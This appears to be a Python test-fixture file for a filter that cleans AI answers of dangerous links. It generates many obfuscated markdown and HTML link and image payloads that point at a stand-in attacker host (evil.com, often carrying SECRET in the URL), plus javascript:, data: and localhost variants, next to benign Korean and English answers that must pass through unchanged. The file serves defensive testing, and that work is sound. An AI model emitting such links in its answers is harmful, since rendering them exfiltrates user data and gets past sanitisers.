"""Cases for the answer filter: generated attacks, and ordinary answers that must not change."""

import random
from collections.abc import Iterator

HOST = "docs.example.com"
MENU = "https://app.example.com/help"

# Addresses of an attacker in spellings that some parser understands.
ADDRESSES = (
    "https://evil.com/p?d=SECRET",
    "http://evil.com",
    "HTTPS://EVIL.COM/x",
    "//evil.com/p?d=SECRET",
    "\\\\evil.com/p",
    "/\\evil.com/p",
    "https:\\\\evil.com/p",
    "https:/evil.com/p",
    "https:evil.com/p",
    "&#104;ttps://evil.com/p",
    "https&#58;//evil.com/p",
    "https&colon;//evil.com/p",
    "https:&sol;&sol;evil.com/p",
    "https://evil&#46;com/p",
    "https://evil&period;com/p",
    "https:\\/\\/evil.com/p",
    "https://evil\\.com/p",
    "ht\ttps://evil.com/p",
    "www.evil.com/p?d=SECRET",
    "evil.com/?d=SECRET",
    "SECRET.evil.com",
    "evil.io/SECRET",
    "SECRET.evil.md",
    "ftp://evil.com/p",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "mailto:a@evil.com?body=SECRET",
    f"https://{HOST}@evil.com/p",
    f"https://{HOST}.evil.com/p",
    f"https://{HOST}\\@evil.com/p",
    f"https://{HOST}:x@evil.com/p",
    f"https://{HOST},.evil.com/p",
    f"https://{HOST})x@evil.com/p",
    f"https://{HOST}。evil.com/p",
    f"https://{HOST}에서.evil.com/p",
    f"https://{HOST}[9].evil.com/p",
    f"https://{HOST}/*https://evil.com*",
    f"https://{HOST}/_evil.com/x_",
    f"https://{HOST}/|https://evil.com|",
    "htt[9]ps://evil.com/p",
    "evil.c[9]om/p",
    "evil.c[](u)om/p",
    "https://evil.com.(//evil.com)",
    "https://(evil.com)",
    "http://localhost:8080/x",
    "//localhost/x",
    "http://2130706433/x",
    "http://[::1]/x",
    "a@evil.com/p",
    "evil。com/p",
    "증거.com/p",
)
# Syntax that contains an address.
LINKS = (
    "{u}",
    "<{u}>",
    "[여기]({u})",
    "[a](<{u}>)",
    '[a]({u} "t")',
    "[a]( {u} )",
    "[a](\n{u}\n)",
    "[a [b] c]({u})",
    "[a\\]b]({u})",
    "[`a`]({u})",
    "[`a](`)]({u})",
    "![x]({u})",
    "![x [y]]({u})",
    "[![x]({u})]({u})",
    "![][r]\n\n[r]: {u}",
    "[x][r]\n\n[r]: {u}",
    "[x]\n\n[x]: {u}",
    "[x]\n\n[x]:\n{u}",
    "[x]\n\n[x]: <{u}>",
    "[x][a b]\n\n[a\nb]: {u}",
    "[x][a\\]]\n\n[a\\]]: {u}",
    "[x][r]\n\n> [r]: {u}",
    "[x][r]\n\n- [r]: {u}",
    "[x][r]\n\n- [ ] [r]: {u}",
    "[x][r]\n\n[9][r]: {u}",
    "[x][r]\n\n![]({u})[r]: {u}",
    "[x][1]\n\n[1]: {u}",
    "[1]({u})",
    "[9]({u})",
    "[a](x)({u})",
    "[a][9]({u})",
    "[a] [9]({u})",
    "![9][x]({u})",
    "![9](x)[x]({u})",
    "!`` ``[x]({u})",
    "]({u})",
    "[a]{z}({u})",
    "<a href={u}>x</a>",
    "<a href='{u}'>x</a>",
    "<img src={u}>",
    '<img src="{u}">',
    "<[9]img src={u}>",
    "<[](x)img src={u}>",
    "<image href={u}>",
    "<table background={u}><tr><td>",
    '<div style="background:url({u})">x',
    "<style>@import '{u}';</style>",
    "<script src={u}></script>",
    "<svg><image xlink:href={u} /></svg>",
    "<video poster={u}>",
    "<form action={u}><button>x",
    "<base href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<link rel=stylesheet href={u}>",
    "<iframe srcdoc='<img src={u}>'>",
    "<object data={u}>",
    "<details><summary>x</summary>\n\n[a]({u})\n\n</details>",
    "<!-- --><img src={u}>",
    "<?x?><img src={u}>",
    "<![CDATA[<img src={u}>]]>",
    "<br>\n<img src={u}>",
    "a<br><img src={u}>",
    "`{u}`",
    "``{u}``",
    "`<img src={u}>`",
    "\\`<img src={u}>`",
    "`a | <img src={u}> `",
    "a `b\nc` <img src={u}> `d`",
    "`a` `<img src={u}>",
    "``a` [x]({u}) `",
    '<a href="`"> [x]({u}) `',
    "**{u}**",
    "*{u}*",
    "_{u}_",
    "~~{u}~~",
    "({u})",
    '"{u}"',
    "값{u}값",
    "[^1]\n\n[^1]: [x]({u}) {u}",
    "&lt;img src={u}&gt;",
    "$${u}$$",
)
# Surrounding blocks that some parsers treat as code and others do not.
BLOCKS = (
    "{x}",
    "앞 글 {x} 뒤 글",
    "# {x}",
    "> {x}",
    "> > {x}",
    "- {x}",
    "1. {x}",
    "- a\n  - {x}",
    "- a\n\n      {x}",
    "    {x}",
    "\t{x}",
    "글\n    {x}",
    "| a | b |\n| - | - |\n| {x} | c |",
    "a | b\n- | -\n{x} | c",
    "```\n{x}\n```",
    "```html\n{x}\n```",
    "```a`b\n{x}",
    "```a`b\n{x}\n```",
    "~~~\n{x}\n~~~",
    "~~~\n```\n~~~\n{x}",
    "```\n~~~\n```\n{x}",
    "````\n```\n{x}\n````\n{x}",
    "```\na\n``` b\n{x}\n```\n{x}",
    "   ```\n{x}\n   ```\n{x}",
    "    ```\n{x}\n    ```\n{x}",
    "- ```\n{x}\n  ```\n{x}",
    "- ```\n  {x}\n  ```\n  {x}",
    "1. a\n   ```\n   {x}\n   ```\n{x}",
    "1. a\n  ```\n  {x}\n  ```\n{x}",
    "> ```\n{x}\n> ```",
    "> ```\n> {x}\n\n{x}",
    "- a\n> ```\n  {x}\n```\n{x}",
    "[9]```\n{x}\n```\n{x}",
    "[9]~~~\nx\n```\n{x}\n~~~\n{x}",
    "![](u)```\nx\n```\n{x}",
    "`\n```\n{x}\n```\n`{x}`",
    "- [ ] ```\n  {x}\n  ```\n  {x}",
    "<!--\n```\n-->\n{x}\n```",
    "<div>\n```\n{x}\n```\n</div>",
    "<br>\n```\n{x}\n```",
    "<pre>\n```\n</pre>\n{x}",
    "a\r~~~\r{x}\r~~~\r{x}",
    "a\r\n```\r\n{x}\r\n```\r\n{x}",
    "```\f\n{x}\n```\n{x}",
    "``` \n{x}\n```\t\n{x}",
    "* * *\n{x}\n---\n{x}",
    "{x}\n===\n",
    "-\n  ```\n  {x}\n  ```",
    "-   ```\n    {x}\n  ```\n    {x}",
    "10. ```\n    {x}\n    ```\n   {x}",
    "- a\n\n  ```\n{x}\n  ```",
    "\u00a0```\n{x}\n```\n{x}",
    "\u200b```\n{x}\n```\n{x}",
    "```\u2028{x}\n```\n{x}",
    "[a]: <\n```\n{x}\n```\n",
    "`` ` `` {x} `",
    "$$\n{x}\n$$",
)


def generated(count: int, seed: int = 19) -> Iterator[str]:
    """Returns attacks: every block and every form of link at least once, then at random."""
    made = random.Random(seed)
    for number in range(count):
        address = ADDRESSES[number % len(ADDRESSES)]
        link = LINKS[number % len(LINKS)] if number < 4_000 else made.choice(LINKS)
        block = made.choice(BLOCKS)
        parts = [_attack(made, block, link, address)]
        while made.random() < 0.3 and len(parts) < 4:
            parts.append(
                _attack(made, made.choice(BLOCKS), made.choice(LINKS), made.choice(ADDRESSES))
            )
        yield made.choice(("\n\n", "\n", " ")).join(parts)


def _attack(made: random.Random, block: str, link: str, address: str) -> str:
    between = made.choice(("", " ", "\u200b", "\\", "[9]", "`"))
    attack = link.replace("{u}", address).replace("{z}", between)
    return block.replace("{x}", attack)


_SENTENCES = (
    "팀 요금제는 한 달에 290,000원입니다 [1].",
    "연간 결제는 20% 할인됩니다[1][M1].",
    "The team plan costs $29 a month [1].",
    "자세한 내용은 support@costlens.example로 문의해 주세요.",
    "버전 1.2.3 이상에서 지원하며, 3.14배 빠릅니다.",
    "설정은 `config.yaml`의 `limits.max_tokens`에 있습니다.",
    "README.md와 main.py를 확인하세요.",
    "a < b 이고 c > d이면 10:30에 시작합니다.",
    "**중요:** 비밀번호는 공유하지 마세요!",
    "*기울임*, ~~취소선~~, __굵게__, snake_case_name.",
    "완료했습니다![1] 다음 단계로 가세요.",
    "[참고] 이 값은 배열[i]와 다릅니다.",
    "AT&T와 R&D, 5 &lt; 6, &nbsp;와 &amp;도 있습니다.",
    f"문서는 https://{HOST}/guide/a_b.md#top 에 있습니다.",
    f"[안내서](https://{HOST}/guide)를 보거나 [도움말]({MENU})을 여세요.",
    f"주소는 https://{HOST}입니다.",
    "e.g. 오전 9시, i.e. 09:00, a.m./p.m., U.S. 기준.",
    "비율은 1:2이고 3/4 지점입니다; 100%?",
    "C:\\Users\\me\\file.txt 또는 /etc/hosts 를 여세요.",
    "ASP.NET, Node.js, C++, C#, F#.",
    "수식 $E = mc^2$ 와 x_i, y^2.",
    "이모지 👩‍👩‍👧 와 “따옴표”, ‘작은 따옴표’, 말줄임…",
)
_BLOCKS = (
    "# 제목\n\n본문 [1].",
    "## Steps\n\n1. 설치합니다.\n2. 실행합니다 [1].\n   - 하위 항목\n   - `code`\n3. 끝.",
    "- 하나\n- 둘\n  - 셋\n    - 넷 [M1]\n\n- [ ] 할 일\n- [x] 한 일",
    "| 요금제 | 월 요금 |\n| --- | ---: |\n| 팀 | 290,000원 [1] |\n| 비즈니스 | `문의` |",
    "| a | b |\n|---|---|\n| 줄1<br>줄2 | c |",
    "> 인용문입니다. [1]\n> 둘째 줄.",
    "```python\ndef f(a: list[int]) -> int:\n    return a[9] if a[0] < 3 else f(a)[1]\n```",
    '```html\n<div class="a"><img src="logo.png" alt=""></div>\n<!-- note -->\n```',
    '```bash\npip install saegim\ncurl http://localhost:8000/v1/chat -d \'{"message": "hi"}\'\n```',
    '~~~json\n{"a": [1, 2], "b": {"c": "<d>"}}\n~~~',
    "1. 설치:\n\n   ```bash\n   saegim dev --port 8010\n   ls <dir> [9]\n   ```\n\n2. 확인 [1].",
    "```ts\nconst m: Map<string, number[]> = new Map();\nhandlers[i](event);\n```",
    "```sql\nSELECT a.name, b.id FROM t a JOIN u b ON a.id = b.id WHERE a.x <> 1;\n```",
    "````markdown\n```\ncode\n```\n````",
    "    indented = code\n    more",
    "`<b>` 태그와 `List<String>`, `arr[9]`를 씁니다 [1].",
    "---\n\n***\n\n끝.",
    "postgresql://me@localhost:5432/db 로 연결합니다.",
)


def ordinary() -> list[str]:
    """Returns answers that the filter must not change."""
    made = random.Random(7)
    texts = [*_SENTENCES, *_BLOCKS]
    for _ in range(260):
        blocks = [
            made.choice(_BLOCKS) if made.random() < 0.5 else " ".join(made.sample(_SENTENCES, 3))
            for _ in range(made.randint(2, 5))
        ]
        texts.append("\n\n".join(blocks))
    return texts
